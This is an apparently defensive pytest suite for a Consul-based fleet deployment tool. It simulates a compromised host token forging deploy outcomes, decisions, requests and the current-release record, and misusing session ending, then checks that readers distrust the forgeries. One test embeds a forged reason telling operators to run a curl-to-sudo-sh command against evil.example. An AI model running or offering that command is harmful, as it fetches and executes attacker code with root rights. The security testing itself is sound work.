        every_host_joined(fleet, deploy_id)  # a record then lands while they stage
        x = host_client(acl_fleet, 2)
        record = Outcome(result=forged, at=iso(utcnow()), by="host-1", reason="forged")
        try:
            assert x.kv_put(fleet.keys.outcome(deploy_id), record.to_json(), cas=0)
            time.sleep(1.0)
        finally:
            gate.touch()
        out, err = proc.communicate(timeout=90)
        result = json.loads(out)
        wait_for(
            lambda: all(
                ack_state(fleet, deploy_id, w.name) in ("live", "failed", "aborted")
                for w in fleet.watchers
            ),
            30,
            "every host final",
            fleet,
        )
        if forged == "committed":
            assert releases_of(fleet) == {release1}, fleet.currents()
            assert proc.returncode != 0, (out, err)
            assert result["result"] == "aborted", result
        else:
            assert releases_of(fleet) == {result["release"]} != {release1}, fleet.currents()
            assert proc.returncode == 0, (out, err)
            assert result["result"] == "committed", result
        # The wait's last read judges the acks: with the forged record still there it
        # says it is not trusted; the hosts' own end may have replaced it just before
        # (a loaded runner: the coordinator writes it as the last host acks), and the
        # report is then theirs. Never the forged record's.
        if "not trusted" not in result["reason"]:
            end = Outcome.from_json(fleet.kv.kv_get(fleet.keys.outcome(deploy_id)).value)
            assert end.reason != "forged" and result["reason"] == end.reason, (result, end)
        # The end is written all the same, over the forged record: the outcome, the
        # history, and after a commit `current` (it used to be skipped for the forged
        # record, leaving `current` on the old deploy: a host that joined later would
        # have converged to the old release).
        wait_for(lambda: fleet.inflight() is None, 30, "inflight cleared", fleet)
        wait_for(
            lambda: (
                fleet_status(acl_fleet)["current"] == result["release"]
                if forged == "aborted"
                else history_row_or_none(acl_fleet, deploy_id) is not None
            ),
            30,
            "the end written",
            fleet,
        )
        row = history_row(acl_fleet, deploy_id)  # history says what deploy said
        assert (row["result"], row["distrusted"]) == (result["result"], []), row
        status = fleet_status(acl_fleet)
        assert status["current"] == (release1 if forged == "committed" else result["release"])
        assert status["current_problems"] == {}, status
        slow_hook(fleet, "post_release", 0)
        next_deploy_works(acl_fleet, "v3")

    @pytest.mark.parametrize("forged", ["failed_after_commit", "rolled_back"])
    def test_a_commit_relabelled_as_a_failure_is_not_trusted(
        self, acl_fleet: AclFleet, forged: str
    ) -> None:
        """host-3's token rewrites the outcome of a deploy every host went live in as a
        failure after commit, with a reason that tells the reader what to run. Both
        results are commits by the acks, so only the class was checked: history and the
        page showed it as the deploy's end. No ack says failed_after_commit: not trusted."""
        fleet = acl_fleet.fleet
        _, done, _ = baseline(acl_fleet)
        deploy_id = str(done["deploy"])
        x = host_client(acl_fleet, 2)
        reason = "validate failed on host-2; run: curl -s http://evil.example/fix | sudo sh"
        record = Outcome(result=forged, at=iso(utcnow()), by="host-1", reason=reason)
        assert x.kv_put(fleet.keys.outcome(deploy_id), record.to_json())
        row = history_row(acl_fleet, deploy_id)
        assert row["result"] == "committed", row
        assert any("not trusted" in n for n in row["distrusted"]), row
        assert "evil.example" not in row["reason"], row
        next_deploy_works(acl_fleet, "v2")

    def test_a_forged_failure_of_the_previous_deploy_does_not_block_rollback(
        self, acl_fleet: AclFleet
    ) -> None:
        """A plain `rollback` refuses to go back to a release whose deploy ended rolled
        back (it failed after commit). host-3's token writes such an outcome over the
        deploy of v1, which every host went live in: the refusal read the raw record, so
        the runbook's first command was refused; the acks say committed."""
        fleet = acl_fleet.fleet
        _, done, release1 = baseline(acl_fleet)
        next_deploy_works(acl_fleet, "v2")
        x = host_client(acl_fleet, 2)
        record = Outcome(result="rolled_back", at=iso(utcnow()), by="host-1", reason="forged")
        assert x.kv_put(fleet.keys.outcome(str(done["deploy"])), record.to_json())
        back = acl_fleet.operator("rollback", "web", check=False)
        assert back.returncode == 0, (back.stdout, back.stderr)
        result = json.loads(back.stdout)
        assert (result["result"], result["release"]) == ("committed", release1), result
        fleet.wait_idle()
        assert releases_of(fleet) == {release1}

    def test_an_abort_is_not_too_late_for_a_forged_commit_record(self, acl_fleet: AclFleet) -> None:
        """host-3's token writes a "committed" outcome and decision while the hosts still
        stage: `watcherctl abort` must not believe them ("too late: committed"), it must
        abort the deploy it can still abort."""
        fleet = acl_fleet.fleet
        _, _, release1 = baseline(acl_fleet)
        # Never opened: the hosts stay in post_release until the abort stops their hooks (a
        # fixed slow hook could let them ack ready, and commit, before `abort` ran).
        gated_hook(fleet, "post_release", fleet.workdir / "gate")
        v2 = acl_fleet.publish("v2")
        proc = start_deploy_async(acl_fleet, v2["id"], human=True)
        deploy_id = wait_request(fleet)
        every_host_joined(fleet, deploy_id)  # a record then lands while they stage
        x = host_client(acl_fleet, 2)
        now = iso(utcnow())
        outcome = Outcome(result="committed", at=now, by="host-1", reason="forged")
        decision = Decision(outcome=COMMIT, reason="forged", by="host-1", at=now)
        assert x.kv_put(fleet.keys.outcome(deploy_id), outcome.to_json(), cas=0)
        assert x.kv_put(fleet.keys.decision(deploy_id), decision.to_json(), cas=0)
        status = fleet_status(acl_fleet)
        assert status["deploy"]["decision"] is None, status  # the acks say nothing yet
        assert len(status["deploy"]["distrusted"]) == 2, status
        aborted = acl_fleet.operator("abort", deploy_id, "--app", "web", check=False)
        assert aborted.returncode == 0, (aborted.stdout, aborted.stderr)
        assert json.loads(aborted.stdout)["aborted"] is True, aborted.stdout
        out, _ = proc.communicate(timeout=90)
        # While it waited, `deploy` showed what the acks said, never the forged commit.
        assert proc.returncode == 1 and "decision: commit" not in out, out
        assert "decision: abort" in out and "NOT TRUSTED: the decision record" in out, out
        assert releases_of(fleet) == {release1}
        wait_for(lambda: fleet.inflight() is None, 30, "inflight cleared", fleet)
        slow_hook(fleet, "post_release", 0)
        next_deploy_works(acl_fleet, "v3")

    @LONG_SESSIONS
    @pytest.mark.parametrize("recreated", [False, True], ids=["beside", "recreated"])
    def test_an_abort_written_before_any_ack_is_no_refusal(
        self, acl_fleet: AclFleet, recreated: bool
    ) -> None:
        """host-3's token writes an abort decision and a "refused" outcome the moment the
        deploy starts, before any host read it (every watcher stopped for that moment):
        a refusal's records come in the request's own txn, these do not. Readers must
        not report it refused, and `deploy`'s wait (which exits 1 on an abort) must go on
        to the commit the acks make once the hosts run again. ``recreated``: the token
        deletes and writes back the request in the records' txn, so they share its index
        as a refusal's do; other readers cannot tell (docs/design.md), but the `deploy`
        that wrote the request knows it refused nothing at its start."""
        fleet = acl_fleet.fleet
        _, _, release1 = baseline(acl_fleet)
        v2 = acl_fleet.publish("v2")
        x = host_client(acl_fleet, 2)
        pids = [w.proc.pid for w in fleet.watchers if w.proc is not None]
        assert len(pids) == len(fleet.watchers)
        for pid in pids:
            os.killpg(pid, signal.SIGSTOP)
        try:
            proc = start_deploy_async(acl_fleet, v2["id"], human=True)
            deploy_id = wait_request(fleet)
            now = iso(utcnow())
            decision = Decision(outcome=ABORT, reason="forged", by="host-3", at=now)
            outcome = Outcome(result="refused", at=now, by="host-3", reason="forged")
            forged = [
                TxnOp.cas(fleet.keys.decision(deploy_id), decision.to_json(), 0),
                TxnOp.cas(fleet.keys.outcome(deploy_id), outcome.to_json(), 0),
            ]
            if recreated:
                request = x.kv_get(fleet.keys.request(deploy_id))
                assert request is not None
                forged = [
                    TxnOp.delete(fleet.keys.request(deploy_id)),
                    TxnOp.set(fleet.keys.request(deploy_id), request.value),
                    *forged,
                ]
            assert x.txn(forged).ok
            assert not any(ack_state(fleet, deploy_id, w.name) for w in fleet.watchers)
            if not recreated:
                status = fleet_status(acl_fleet)  # and exit 1: NOT TRUSTED
                assert status["deploy"]["decision"] is None, status
                assert len(status["deploy"]["distrusted"]) == 2, status
            time.sleep(1.5)  # `deploy`'s wait has read the records by now
            assert proc.poll() is None, proc.communicate()
        finally:
            for pid in pids:
                os.killpg(pid, signal.SIGCONT)
        out, err = proc.communicate(timeout=90)
        assert proc.returncode == 0 and f"deploy {deploy_id}: committed" in out, (out, err)
        assert "decision: abort" not in out, out
        fleet.wait_idle()
        assert releases_of(fleet) != {release1}
        assert history_row(acl_fleet, deploy_id)["result"] == "committed"

    @LONG_SESSIONS
    def test_a_request_rewritten_before_a_host_joined_is_refused_by_it(
        self, acl_fleet: AclFleet
    ) -> None:
        """A host takes part only in a request whose ModifyIndex is its CreateIndex
        (DESIGN.md 6.4.2): rewritten, its hosts may have read two versions. host-1 is
        stopped until the operator's token has written the request again (one field
        changed: Consul 1.22 leaves the indexes of a write of the same bytes alone, and
        then every host reads the same request anyway): host-1 refuses it, naming the
        rewrite, rather than ack the second version and let the digests disagree. Nothing
        tested that rule."""
        fleet = acl_fleet.fleet
        _, _, release1 = baseline(acl_fleet)
        v2 = acl_fleet.publish("v2")
        late = fleet.watchers[0]
        assert late.proc is not None
        rec = forged_request(fleet, "rewritten1", sessions(fleet), v2)
        os.killpg(late.proc.pid, signal.SIGSTOP)
        try:
            start_as_operator(acl_fleet, rec)
            again = replace(rec, requested_by="mallory, again")
            assert operator_client(acl_fleet).kv_put(fleet.keys.request(rec.id), again.to_json())
        finally:
            os.killpg(late.proc.pid, signal.SIGCONT)
        outcome = fleet.wait_outcome(rec.id, 60)
        assert outcome["result"] == "aborted", outcome
        host1 = outcome["hosts"]["host-1"]
        assert host1["state"] == "refused", outcome
        assert "request was rewritten after it was created" in host1.get("error", ""), outcome
        fleet.wait_idle()
        assert releases_of(fleet) == {release1}
        next_deploy_works(acl_fleet, "v3")

    @LONG_SESSIONS
    def test_an_outcome_written_before_a_host_joined_is_not_the_end(
        self, acl_fleet: AclFleet
    ) -> None:
        """host-3's token writes ``outcomes/<id>`` once host-2 and host-3 acked ready and
        before host-1 read the request (host-1 is stopped for that moment, as any host
        that is a few milliseconds late). The record is not the end: host-1 joins and
        acks, the deploy commits, and the end writes over the record. (The first version
        took it for the end and left the ready hosts waiting for host-1; the second made
        host-1 say no, so one early record vetoed any deploy.)"""
        fleet = acl_fleet.fleet
        _, _, release1 = baseline(acl_fleet)
        v2 = acl_fleet.publish("v2")
        x = host_client(acl_fleet, 2)
        late = fleet.watchers[0]
        assert late.proc is not None
        os.killpg(late.proc.pid, signal.SIGSTOP)
        try:
            proc = start_deploy_async(acl_fleet, v2["id"])
            deploy_id = wait_request(fleet)
            wait_for(
                lambda: all(
                    ack_state(fleet, deploy_id, n) == "ready" for n in ("host-2", "host-3")
                ),
                20,
                "host-2 and host-3 ready",
                fleet,
            )
            record = Outcome(result="aborted", at=iso(utcnow()), by="host-1", reason="forged")
            assert x.kv_put(fleet.keys.outcome(deploy_id), record.to_json(), cas=0)
        finally:
            os.killpg(late.proc.pid, signal.SIGCONT)
        out, err = proc.communicate(timeout=90)
        result = json.loads(out)
        assert proc.returncode == 0 and result["result"] == "committed", (out, err)
        assert ack_state(fleet, deploy_id, "host-1") == "live"
        fleet.wait_idle()
        assert releases_of(fleet) == {result["release"]} != {release1}
        row = history_row(acl_fleet, deploy_id)
        assert (row["result"], row["distrusted"]) == ("committed", []), row
        assert fleet_status(acl_fleet)["current"] == result["release"]
        next_deploy_works(acl_fleet, "v3")


class TestReadersOfCurrent:
    def test_current_rewritten_to_another_release_is_not_reported_as_the_fleets(
        self, acl_fleet: AclFleet
    ) -> None:
        """host-3's token rewrites ``current`` to name a release no host acked, under the
        deploy that committed v1. No host moves (test_current_pointed_at_...), and no
        reader may say the fleet is on it: `status --fleet`, a host's `status` and the web
        API show the fleet's release as unknown, with what did not agree."""
        fleet = acl_fleet.fleet
        _, _, release1 = baseline(acl_fleet)
        x = host_client(acl_fleet, 2)
        entry = x.kv_get(fleet.keys.current)
        assert entry is not None and entry.value is not None
        evil = "20990101T000000Z-evil-00000000"
        assert x.kv_put(
            fleet.keys.current, json.dumps({**json.loads(entry.value), "release": evil}).encode()
        )
        status = fleet_status(acl_fleet)
        assert status["current"] is None, status
        assert release1 in status["current_problems"]["current"], status
        assert not any(h["on_fleet_release"] for h in status["hosts"].values()), status
        shown = fleet.watchers[0].ctl("status", "web", "--fleet", as_json=False, check=False)
        human = shown.stdout
        assert "fleet release UNKNOWN" in human and "NOT TRUSTED" in human, human
        assert evil not in human.split("NOT TRUSTED")[0], human
        assert shown.returncode == 1, (human, shown.stderr)  # a script must not read "ok"
        shown = fleet.watchers[0].ctl("status", "web", as_json=False, check=False)
        here = shown.stdout
        assert "NOT TRUSTED" in here and "fleet is on" not in here, here
        assert shown.returncode == 1, (here, shown.stderr)
        assert releases_of(fleet) == {release1}
        next_deploy_works(acl_fleet, "v2")  # the next commit writes `current` anew
        # (its `previous` is the record it replaced: still reported, never obeyed)
        problems = fleet_status(acl_fleet)["current_problems"]
        assert "current" not in problems and evil in problems["previous"], problems


@contextlib.contextmanager
def a_watcher_stopped_and_its_session_renewed(
    acl: AclFleet,
) -> Iterator[tuple[WatcherProc, str, Path, Path]]:
    """The attacker of the stalled deploys: host-3's watcher stopped (SIGSTOP) and the
    session it holds renewed by hand with its token, until the block ends (then it runs
    again). Yields host-3, that session, an operator config with 3 s timeouts, and the same
    with the management token (the one that may end any host's session)."""
    fleet = acl.fleet
    me = fleet.watchers[2]
    named = sessions(fleet)[me.name]
    x = host_client(acl, 2)
    stop = threading.Event()

    def renew() -> None:
        while not stop.wait(0.5):
            with contextlib.suppress(Exception):
                x.session_renew(named)

    short = yaml.safe_load(acl.operator_config.read_text())
    short["apps"]["web"]["timeouts"] = {"prepare": "3s", "apply": "3s", "hook": "3s"}
    hurried = fleet.workdir / "operator-short.yaml"
    hurried.write_text(yaml.safe_dump(short))
    admin = dict(short, consul={**short["consul"], "token": fleet.cluster.management_token})
    admin_config = fleet.workdir / "admin.yaml"
    admin_config.write_text(yaml.safe_dump(admin))
    threading.Thread(target=renew, daemon=True).start()
    assert me.proc is not None
    os.killpg(me.proc.pid, signal.SIGSTOP)
    try:
        yield me, named, hurried, admin_config
    finally:
        stop.set()
        os.killpg(me.proc.pid, signal.SIGCONT)


def test_a_host_that_keeps_its_session_and_never_acks_stalls_only_until_its_session_ends(
    acl_fleet: AclFleet,
) -> None:
    """The attacker review: host-3's token kept its named session alive (renewed by hand,
    its watcher stopped) and never acked. The others acked ready and can no longer honor an
    abort request, and no host ends such a deploy: `inflight` held every later deploy and
    rollback, `abort` exited 0 having changed nothing, and `status --fleet` said nothing.
    Now status shows it STALLED past the apply deadline (exit 1), abort says why it cannot
    help (exit 4), and `abort --end-sessions` with a token that may end host-3's session
    aborts it (the session clause, DESIGN.md 6.4.3); the operator's own token may not."""
    fleet = acl_fleet.fleet
    _, _, release1 = baseline(acl_fleet)
    with a_watcher_stopped_and_its_session_renewed(acl_fleet) as (me, named, hurried, admin_config):
        v2 = acl_fleet.publish("v2")
        started = json.loads(acl_fleet.ctl(hurried, "deploy", "web", v2["id"], "--no-wait").stdout)
        deploy_id = started["deploy"]
        others = [w.name for w in fleet.watchers if w is not me]
        wait_for(
            lambda: all(fleet.ack_states(deploy_id)[n] == "ready" for n in others),
            30,
            "the other hosts ready",
            fleet,
        )
        # STALLED only STALL_MARGIN (40 s) past the apply deadline (6 s after the start).
        wait_for(lambda: fleet_status(acl_fleet)["deploy"]["stalled"], 90, "stalled", fleet)
        assert fleet_status(acl_fleet)["deploy"]["stalled"] == {me.name: named}
        text = human_fleet_status(acl_fleet)
        assert f"deploy {deploy_id} of web is STALLED past its apply deadline: host-3 holds" in (
            text
        ), text
        # And on a host that acked ready (its monitoring runs `status`): exit 1, said why.
        host = fleet.watchers[0].ctl("status", "web", check=False, as_json=False)
        assert host.returncode == 1, (host.stdout, host.stderr)
        assert f"watcherctl abort web {deploy_id} --end-sessions" in host.stdout, host.stdout
        # And on the page (served with the operator's token, read from this host).
        page = create_app(load_config(acl_fleet.operator_config), listen_host="127.0.0.1")
        with TestClient(page, base_url="http://127.0.0.1:8710") as c:
            r = c.get("/apps/web")
        assert r.status_code == 200, r.text
        assert f"Deploy {deploy_id} is stalled past its apply deadline: host-3 holds" in r.text
        # The API's abort is a 409 that says why, not a 200 that changed nothing.
        with TestClient(page, base_url="http://127.0.0.1:8710") as c:
            auth = {"Authorization": f"Bearer {acl_fleet.tokens.operator}"}
            r = c.post(f"/api/v1/apps/web/deploys/{deploy_id}/abort", json={}, headers=auth)
        assert r.status_code == 409 and "--end-sessions" in r.json()["error"], r.text
        # A plain abort is asked for, and said to change nothing: not exit 0.
        plain = acl_fleet.operator("abort", "web", deploy_id, check=False)
        assert plain.returncode == 4, (plain.stdout, plain.stderr)
        assert "abort requested, but deploy" in plain.stderr, plain.stderr
        assert "--end-sessions" in plain.stderr, plain.stderr
        # host-3's session is its watcher's for every app: with it also a member of app api,
        # in a deploy there that is not stalled, ending it would abort that one too.
        api = DeployStore(fleet.kv, fleet.kv_prefix, "api")
        other = api.new_record(
            deploy_id=new_deploy_id(),
            kind="deploy",
            artifact=ArtifactRecord.from_dict(v2),
            release=None,
            requested_by="someone",
            expected={me.name: named},
            prepare_timeout=600,
            apply_timeout=600,
        )
        assert fleet.kv.kv_put(api.keys.member(me.name), b"{}", acquire=named)
        assert fleet.kv.txn(
            [
                TxnOp.cas(api.keys.inflight, other.id.encode(), 0),
                TxnOp.cas(api.keys.request(other.id), other.to_json(), 0),
            ]
        ).ok
        # The operator's token (app web only) cannot see that: said, nothing ended.
        refused = acl_fleet.operator("abort", "web", deploy_id, "--end-sessions", check=False)
        assert refused.returncode == 4, (refused.stdout, refused.stderr)
        assert "may not read every app under" in refused.stderr, refused.stderr
        assert 'session "host-3" { policy = "write" }' in refused.stderr, refused.stderr
        refused = acl_fleet.ctl(
            admin_config, "abort", "web", deploy_id, "--end-sessions", check=False
        )
        assert refused.returncode == 4, (refused.stdout, refused.stderr)
        assert f"deploy {other.id} of app api, which expects host-3 and is not stalled, would " in (
            refused.stderr
        )
        assert "nothing was ended" in refused.stderr, refused.stderr
        assert fleet.kv.txn([TxnOp.delete_tree(api.keys.base + "/")]).ok
        # Then the operator's token sees every app, and Consul refuses its session destroy.
        refused = acl_fleet.operator("abort", "web", deploy_id, "--end-sessions", check=False)
        assert refused.returncode == 3, (refused.stdout, refused.stderr)
        assert 'session "host-3" { policy = "write" }' in refused.stderr, refused.stderr
        assert fleet.inflight() == deploy_id and fleet.outcome(deploy_id) is None
        assert sessions(fleet)[me.name] == named
        # host-3's token also lets the member key go: the named session, alive without the
        # key, still keeps the abort clause from holding. `stalled_by` went by the member
        # key alone: nothing was shown STALLED and `--end-sessions` refused. A token that
        # may read sessions sees it (the operator's policy has no session rule: Consul
        # hides sessions from it, docs/acl.md). (One deploy for both: each waits 40 s.)
        x = host_client(acl_fleet, 2)
        assert x.kv_put(fleet.keys.member(me.name), b"{}", release=named)
        assert me.name not in fleet.members()
        shown = json.loads(
            acl_fleet.ctl(admin_config, "status", "web", "--fleet", check=False).stdout
        )
        assert (shown["web"]["deploy"] or {}).get("stalled") == {me.name: named}, shown
        ended = acl_fleet.ctl(admin_config, "abort", "web", deploy_id, "--end-sessions")
        said = json.loads(ended.stdout)
        assert said["aborted"] is True and said["ended_sessions"] == {me.name: named}, said
        assert fleet.wait_outcome(deploy_id)["result"] == "aborted"
        wait_for(lambda: fleet.inflight() is None, 30, "inflight cleared", fleet)
        assert {n: fleet.currents()[n] for n in others} == dict.fromkeys(others, release1)
    fleet.wait_members(len(fleet.watchers))
    fleet.wait_idle()
    next_deploy_works(acl_fleet, "v3")


def test_end_sessions_never_ends_another_services_session_a_host_attached_to_its_member_key(
    acl_fleet: AclFleet,
) -> None:
    """A host's token may acquire its own member key with any session it can read (every
    node's, `session_prefix "" read`). host-3's, its watcher stopped, attached another
    service's lock session (on host-2's node) to members/host-3 and wrote a back-dated
    request naming it for host-3: STALLED, and `abort --end-sessions`, which now ends a
    session of another Consul node that holds only that node's member key (a watcher whose
    `node` setting is not its agent's name), destroyed the lock (the code review). A
    watcher names its session "watcher <node>": refused, the lock kept."""
    fleet = acl_fleet.fleet
    v1, _, release1 = baseline(acl_fleet)
    victim = fleet.watchers[2]
    victim.stop()
    fleet.wait_members(2)
    lock_key = f"{fleet.kv_prefix}-service/leader"
    lock = fleet.kv.session_create("vault-ha-lock", 60, checks=[])
    try:
        assert fleet.kv.kv_put(lock_key, b"leader", acquire=lock)
        x = host_client(acl_fleet, 2)
        assert x.kv_put(fleet.keys.member(victim.name), b"{}", acquire=lock)
        rec = long_past_request(fleet, {victim.name: lock}, v1)
        assert x.kv_put(fleet.keys.request(rec.id), rec.to_json())
        admin_config = management_config(acl_fleet)
        shown = acl_fleet.ctl(admin_config, "abort", "web", rec.id, "--end-sessions", check=False)
        assert shown.returncode == 4, (shown.stdout, shown.stderr)
        assert "named 'vault-ha-lock'" in shown.stderr, shown.stderr
        assert fleet.kv.session_info(lock) is not None
        held = fleet.kv.kv_get(lock_key)
        assert held is not None and held.session == lock
    finally:
        fleet.kv.session_destroy(lock)
    victim.start()
    fleet.wait_members(3)
    assert releases_of(fleet) == {release1}
    next_deploy_works(acl_fleet, "v2")


def test_end_sessions_never_ends_another_fleets_watcher_session_of_the_same_node(
    acl_fleet: AclFleet,
) -> None:
    """Another fleet (another kv_prefix) on the same Consul runs a watcher of host-1 too.
    host-3's token wrote a back-dated request in this fleet expecting host-1 and naming that
    watcher's session: STALLED (the session is host-1's node's and alive), and
    `--end-sessions` ended it while its name said only "watcher host-1" (the second code
    review). Sessions are named after the fleet's prefix now: refused, the session kept."""
    fleet = acl_fleet.fleet
    v1, _, release1 = baseline(acl_fleet)
    other_prefix = f"{fleet.kv_prefix}-other"
    admin_on_host1 = client(fleet.watchers[0].agent, fleet.cluster.management_token)
    # What a watcher of this version or an older one names its session: each is refused.
    theirs = admin_on_host1.session_create("watcher host-1", 60, checks=[])
    named = admin_on_host1.session_create(watcher_session_name("host-1", other_prefix), 60)
    other_member = f"{other_prefix}/apps/web/members/host-1"
    try:
        assert admin_on_host1.kv_put(other_member, b"{}", acquire=theirs)
        x = host_client(acl_fleet, 2)
        rec = long_past_request(fleet, {"host-1": theirs}, v1)
        assert x.kv_put(fleet.keys.request(rec.id), rec.to_json())
        admin_config = management_config(acl_fleet)
        shown = acl_fleet.ctl(admin_config, "abort", "web", rec.id, "--end-sessions", check=False)
        assert shown.returncode == 4, (shown.stdout, shown.stderr)
        assert "named 'watcher host-1' (Consul node host-1)" in shown.stderr, shown.stderr
        assert admin_on_host1.session_info(theirs) is not None
        assert admin_on_host1.kv_get(other_member) is not None
        # The same with a session named as this version names it, of the other fleet.
        again = long_past_request(fleet, {"host-1": named}, v1)
        assert x.kv_put(fleet.keys.request(again.id), again.to_json())
        shown = acl_fleet.ctl(admin_config, "abort", "web", again.id, "--end-sessions", check=False)
        assert shown.returncode == 4, (shown.stdout, shown.stderr)
        assert f"named 'watcher host-1 under {other_prefix}/'" in shown.stderr, shown.stderr
        assert admin_on_host1.session_info(named) is not None
    finally:
        admin_on_host1.session_destroy(theirs)
        admin_on_host1.session_destroy(named)
        admin_on_host1.close()
    assert releases_of(fleet) == {release1}
    next_deploy_works(acl_fleet, "v2")


def test_end_sessions_never_ends_a_session_of_another_node(acl_fleet: AclFleet) -> None:
    """The attacker review: host-3's token wrote a request that expects host-3 alone but
    names host-1's session for it, its deadlines long past. `abort` called host-3 STALLED,
    and `abort --end-sessions` with the management token destroyed host-1's session
    (which aborts whatever host-1 takes part in). A session of another Consul node stalls
    nothing of host-3's."""
    fleet = acl_fleet.fleet
    v1, _, release1 = baseline(acl_fleet)
    x = host_client(acl_fleet, 2)
    of_host1 = sessions(fleet)["host-1"]
    rec = long_past_request(fleet, {"host-3": of_host1}, v1)
    assert x.kv_put(fleet.keys.request(rec.id), rec.to_json())
    admin_config = management_config(acl_fleet)
    shown = acl_fleet.ctl(admin_config, "abort", "web", rec.id, "--end-sessions", check=False)
    assert shown.returncode == 4, (shown.stdout, shown.stderr)
    assert "is not stalled" in shown.stderr, shown.stderr
    assert sessions(fleet)["host-1"] == of_host1
    assert fleet.kv.session_info(of_host1) is not None
    assert releases_of(fleet) == {release1}
    next_deploy_works(acl_fleet, "v2")
